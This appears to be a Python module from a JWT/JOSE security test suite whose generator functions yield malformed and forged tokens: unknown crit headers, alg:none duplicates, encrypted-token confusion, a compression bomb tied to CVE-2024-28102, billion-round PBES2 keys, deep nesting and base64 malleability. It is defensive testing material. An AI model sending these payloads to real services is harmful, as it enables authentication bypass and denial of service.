"""Attacks by other forms, encodings, spellings and sizes of a token."""

import base64
import zlib
from collections.abc import Iterator

from attacks.jose_scene import Scene, attack, attackers_jwk, b64, compact_json, unb64

LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"


# -- extensions and other forms


@attack("extension")
def the_header_asks_for_what_nobody_knows(scene: Scene) -> Iterator[object]:
    for crit in (["exp"], ["x"], ["alg"], [], "x", None, True, [1], [["x"]], {"x": 1}, ["b64"], ["x"] * 1000):
        yield scene.forged({"crit": crit, "x": 1})


@attack("extension")
def the_payload_is_not_encoded(scene: Scene) -> Iterator[object]:
    """RFC 7797: with `b64` false the same bytes mean something else."""
    for crit in (["b64"], ...):
        head = compact_json(
            {k: v for k, v in (scene.header | {"b64": False, "crit": crit}).items() if v is not ...}
        )
        claims = compact_json(scene.claims)
        yield scene.signed_raw(head, claims)
        yield scene.signed_parts(b64(head), claims)
        yield scene.signed_parts(b64(head), "")
        said = scene.signature(f"{b64(head)}.{claims}".encode())
        yield f"{b64(head)}..{b64(said)}"
    yield scene.forged({"b64": False})


@attack("serialisation")
def the_token_comes_as_json(scene: Scene) -> Iterator[object]:
    head, payload, signature = scene.parts()
    flat = {"protected": head, "payload": payload, "signature": signature}
    general = {"payload": payload, "signatures": [{"protected": head, "signature": signature}]}
    for value in (flat, general, flat | {"header": {"alg": "none"}}, [scene.token], {"token": scene.token}):
        yield compact_json(value)
        yield b64(compact_json(value))
        yield value


@attack("serialisation")
def the_token_has_another_number_of_parts(scene: Scene) -> Iterator[object]:
    head, payload, signature = scene.parts()
    yield from ("", ".", "..", "...", "....", head, f"{head}.{payload}", f"{payload}.{signature}")
    yield f"{scene.token}."
    yield f".{scene.token}"
    yield f"{scene.token}.{signature}"
    yield f"{head}.{head}.{payload}.{signature}"
    yield f"{scene.token}.{payload}.{signature}"
    yield f"{head}.{payload}.{signature}.{signature}.{signature}"


@attack("serialisation")
def the_token_is_no_text(scene: Scene) -> Iterator[object]:
    yield from (
        None,
        0,
        True,
        b"",
        scene.token.encode(),
        bytearray(scene.token.encode()),
        [],
        {},
        scene.parts(),
        object(),
    )


@attack("encryption")
def an_encrypted_token_comes_where_a_signed_one_is_due(scene: Scene) -> Iterator[object]:
    for head in (
        {"alg": "dir", "enc": "A128GCM"},
        {"alg": "ECDH-ES", "enc": "A256GCM", "epk": attackers_jwk(scene)},
        {"alg": "RSA1_5", "enc": "A128CBC-HS256"},
        {"alg": "dir", "enc": "A128GCM", "cty": "JWT"},
    ):
        for more in ({}, {"kid": scene.kid, "typ": scene.typ}):
            yield ".".join((b64(compact_json(head | more)), "", b64(bytes(12)), b64(bytes(400)), b64(bytes(16))))
            yield scene.forged(head | more)


@attack("encryption")
def the_payload_is_a_compressed_bomb(scene: Scene) -> Iterator[object]:
    """CVE-2024-28102: a kilobyte that unpacks to ten megabytes."""
    bomb = zlib.compress(b" " * 10_000_000, 9)[2:-4]
    head = {"alg": "dir", "enc": "A128GCM", "zip": "DEF", "kid": scene.kid, "typ": scene.typ}
    yield ".".join((b64(compact_json(head)), "", b64(bytes(12)), b64(bomb), b64(bytes(16))))
    yield scene.signed_raw(compact_json(scene.header | {"zip": "DEF"}), bomb)
    yield scene.signed_raw(compact_json(scene.header), bomb)
    packed = zlib.compress(compact_json(scene.claims).encode())[2:-4]
    yield scene.signed_raw(compact_json(scene.header | {"zip": "DEF"}), packed)


@attack("encryption")
def the_key_takes_a_billion_rounds(scene: Scene) -> Iterator[object]:
    """PBES2 with a huge `p2c` costs the receiver whatever the sender writes."""
    for rounds in (2**31, 10**18, "9" * 100):
        head = {"alg": "PBES2-HS512+A256KW", "enc": "A256GCM", "p2s": b64(bytes(16)), "p2c": rounds}
        yield ".".join((b64(compact_json(head)), b64(bytes(40)), b64(bytes(12)), b64(bytes(99)), b64(bytes(16))))
        yield scene.forged(head)


# -- JSON


@attack("json")
def a_member_stands_there_twice(scene: Scene) -> Iterator[object]:
    """Two readers may take two different ones."""
    claims, head = compact_json(scene.claims), compact_json(scene.header)
    for name, said in scene.claims.items():
        for more in (f'"{name}":{compact_json(said)}', f'"{name}":"acc_other"', f'"{name}":9999999999'):
            yield scene.signed_raw(head, f"{claims[:-1]},{more}}}")
            yield scene.signed_raw(head, f"{{{more},{claims[1:]}")
    for more in (f'"alg":"{scene.alg}"', '"alg":"none"', f'"typ":"{scene.typ}"', '"\\u0061lg":"none"'):
        yield scene.signed_raw(f"{{{more},{head[1:]}", claims)
    nested = claims.replace('"unit":', '"unit":"00031","unit":', 1)
    if nested != claims:
        yield scene.signed_raw(head, nested)


@attack("json")
def the_json_is_in_another_encoding(scene: Scene) -> Iterator[object]:
    claims, head = compact_json(scene.claims), compact_json(scene.header)
    for encoding in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig", "utf-7"):
        if encoding == "utf-7":
            yield scene.signed_raw(head, claims.replace('"', "+ACI-"))
            continue
        yield scene.signed_raw(head, claims.encode(encoding))
        yield scene.signed_raw(head.encode(encoding), claims)
    broken = compact_json(scene.claims | {"jti": "@@"}).encode().replace(b"@@", b"\xc3\x28")
    yield scene.signed_raw(head, broken)
    yield scene.signed_raw(head, b"\xff\xfe\xfd")


@attack("json")
def the_token_stands_among_spaces(scene: Scene) -> Iterator[object]:
    token = scene.token
    head, payload, signature = scene.parts()
    for space in (" ", "\n", "\r\n", "\t", "\0", "\u00a0", "\u200b", "\ufeff"):
        yield from (space + token, token + space, f"{head}.{payload[:9]}{space}{payload[9:]}.{signature}")
        yield f"{head}{space}.{payload}.{signature}"


@attack("json")
def the_payload_is_no_object(scene: Scene) -> Iterator[object]:
    head = compact_json(scene.header)
    for text in (
        "",
        "null",
        "true",
        "0",
        "[]",
        '"x"',
        "{",
        "{}}",
        "{,}",
        "{'a':1}",
        "NaN",
        "[{}]",
        "{}",
        "//x",
        "\x00",
    ):
        yield scene.signed_parts(b64(head), b64(text))
        yield scene.signed_parts(b64(text), scene.parts()[1])
    yield scene.signed_raw(head, compact_json([scene.claims]))
    yield scene.signed_raw(compact_json([scene.header]), compact_json(scene.claims))
    yield scene.signed_raw(head, compact_json(scene.claims) + "{}")
    yield scene.signed_raw(head, compact_json(scene.claims)[:-1] + ",}")


# -- size and spelling


@attack("size")
def the_token_has_a_megabyte(scene: Scene) -> Iterator[object]:
    mega = 1_000_000
    head, payload, signature = scene.parts()
    yield from ("A" * mega, "." * mega, "=" * mega, "é" * mega, f"{head}.{'A' * mega}.{signature}")
    yield f"{'A' * mega}.{payload}.{signature}"
    yield f"{head}.{payload}.{'A' * mega}"
    yield scene.forged(x="y" * mega)
    yield scene.forged(jti="j" * mega)
    yield scene.forged({"x": "y" * mega})


@attack("size")
def the_json_is_nested_ten_thousand_deep(scene: Scene) -> Iterator[object]:
    for deep in ("[" * 10_000 + "]" * 10_000, "[" * 10_000, '{"a":' * 10_000 + "1" + "}" * 10_000, '{"a":' * 2_000):
        for text in (deep, f'{{"a":{deep}}}'):
            yield scene.signed_raw(compact_json(scene.header), text)
            yield scene.signed_raw(text, compact_json(scene.claims))
        yield scene.signed_raw(compact_json(scene.header), f'{compact_json(scene.claims)[:-1]},"act":{deep}}}')


@attack("base64")
def the_parts_are_padded(scene: Scene) -> Iterator[object]:
    head, payload, signature = scene.parts()
    for pad in ("=", "==", "==="):
        yield f"{head}.{payload}.{signature}{pad}"
        yield scene.signed_parts(head + pad, payload)
        yield scene.signed_parts(head, payload + pad)
    yield scene.signed_parts(head + "=" * (-len(head) % 4 or 4), payload)
    yield f"{head}.{payload}.={signature}"


@attack("base64")
def the_last_letter_holds_bits_that_mean_nothing(scene: Scene) -> Iterator[object]:
    def others(text: str) -> Iterator[str]:
        for letter in LETTERS:
            other = text[:-1] + letter
            if letter != text[-1] and unb64(other) == unb64(text):
                yield other

    head, payload, signature = scene.parts()
    for other in others(signature):
        yield f"{head}.{payload}.{other}"
    # Spaces in the JSON bring a part to a length at which its last letter has bits to spare.
    for spaces in range(3):
        long_head, long_payload = (
            b64(compact_json(d)[:-1] + " " * spaces + "}") for d in (scene.header, scene.claims)
        )
        for other in others(long_head):
            yield scene.signed_parts(other, payload)
        for other in others(long_payload):
            yield scene.signed_parts(head, other)


@attack("base64")
def the_alphabet_is_another(scene: Scene) -> Iterator[object]:
    head, payload, _ = scene.parts()
    for spaced in ("\n", " ", "!", "-_+/"):
        yield scene.signed_parts(head[:8] + spaced + head[8:], payload)
        yield scene.signed_parts(head, payload[:8] + spaced + payload[8:])
    # A value that the two alphabets spell differently.
    claims = compact_json(scene.claims | {"x": "???>>>"})
    standard = base64.b64encode(claims.encode()).rstrip(b"=").decode()
    if "/" in standard or "+" in standard:
        yield scene.signed_parts(head, standard)
    yield scene.signed_parts(head.encode().hex(), payload)
